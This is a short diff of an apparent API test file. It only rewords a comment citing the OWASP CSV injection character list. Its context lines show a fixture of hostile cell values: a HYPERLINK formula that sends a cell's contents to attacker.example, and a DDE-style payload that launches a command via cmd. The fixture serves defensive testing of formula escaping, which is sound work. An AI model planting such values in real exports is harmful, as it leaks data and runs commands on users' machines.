@@ -15,7 +15,7 @@ afterEach(async () => {
 });
 const url = (path: string) => `/api/labs/${labId}${path}`;
 
-/** Cells a spreadsheet would run as formulas (OWASP's list: = + - @, tab and carriage return first). */
+/** Cells a spreadsheet would run as formulas (the OWASP Foundation's "CSV Injection" page, from memory: = + - @, tab and carriage return first). */
 const HOSTILE = {
   description: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
   certificateReference: '@SUM(1+9)*cmd|\' /C calc\'!A0',
